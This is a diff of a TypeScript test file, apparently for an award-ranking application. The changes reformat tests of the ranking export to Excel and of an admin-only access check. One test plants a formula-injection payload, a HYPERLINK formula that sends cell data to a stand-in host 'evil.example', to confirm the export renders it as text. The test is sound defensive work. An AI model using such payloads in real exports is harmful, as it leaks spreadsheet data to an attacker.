@@ -21,19 +21,59 @@ describe('ranking as an Excel workbook', () => {
       await submitSheet(w, second.id, reviewer, 75)
     }
     const hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
-    await w.db.updateTable('organisations').set({ name: hostile }).where('id', '=', w.applicant.organisationId!).execute()
-    const gold = await w.db.selectFrom('award_levels').select('id').where('cycle_id', '=', w.cycle.id).where('category_code', '=', 'economy').where('code', '=', 'gold').executeTakeFirstOrThrow()
-    const row = await w.db.selectFrom('applications').select('version').where('id', '=', second.id).executeTakeFirstOrThrow()
-    await decideApplication(w.db, { applicationId: second.id, actor: w.admin, expectedVersion: row.version, levelId: gold.id, reason: '' })
+    await w.db
+      .updateTable('organisations')
+      .set({ name: hostile })
+      .where('id', '=', w.applicant.organisationId!)
+      .execute()
+    const gold = await w.db
+      .selectFrom('award_levels')
+      .select('id')
+      .where('cycle_id', '=', w.cycle.id)
+      .where('category_code', '=', 'economy')
+      .where('code', '=', 'gold')
+      .executeTakeFirstOrThrow()
+    const row = await w.db
+      .selectFrom('applications')
+      .select('version')
+      .where('id', '=', second.id)
+      .executeTakeFirstOrThrow()
+    await decideApplication(w.db, {
+      applicationId: second.id,
+      actor: w.admin,
+      expectedVersion: row.version,
+      levelId: gold.id,
+      reason: '',
+    })
 
     const response = await respond(async () => xlsx.loader(args(await get('/admin/ranking.xlsx', w.admin.userId))))
-    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
+    expect(response.headers.get('content-type')).toBe(
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    )
     const sheet = await workbookOf(response)
     expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
-    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(['奖项领域', '名次', '申报单位', '综合得分（算术平均）', '4.7', '4.1', '评分情况', '状态', '审定', '共识', '审定理由'])
+    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([
+      '奖项领域',
+      '名次',
+      '申报单位',
+      '综合得分（算术平均）',
+      '4.7',
+      '4.1',
+      '评分情况',
+      '状态',
+      '审定',
+      '共识',
+      '审定理由',
+    ])
     expect(sheet.getRow(1).font?.bold).toBe(true)
     const second$ = sheet.getRow(2)
-    expect([second$.getCell(1).value, second$.getCell(2).value, second$.getCell(3).value, second$.getCell(4).value, second$.getCell(9).value]).toEqual(['经济', 1, '乙公司', 750, '金奖'])
+    expect([
+      second$.getCell(1).value,
+      second$.getCell(2).value,
+      second$.getCell(3).value,
+      second$.getCell(4).value,
+      second$.getCell(9).value,
+    ]).toEqual(['经济', 1, '乙公司', 750, '金奖'])
     expect(second$.getCell(4).numFmt).toBe('0.00')
     // A name that a spreadsheet would run is text, not a formula.
     const hostileCell = sheet.getRow(3).getCell(3)
@@ -44,7 +84,9 @@ describe('ranking as an Excel workbook', () => {
 
   it('is the secretariat\\u2019s alone', async () => {
     const w = await world()
-    const response = await respond(async () => xlsx.loader(args(await get('/admin/ranking.xlsx', w.reviewers[0]!.userId))))
+    const response = await respond(async () =>
+      xlsx.loader(args(await get('/admin/ranking.xlsx', w.reviewers[0]!.userId))),
+    )
     expect(response.status).toBe(403)
   })
 })
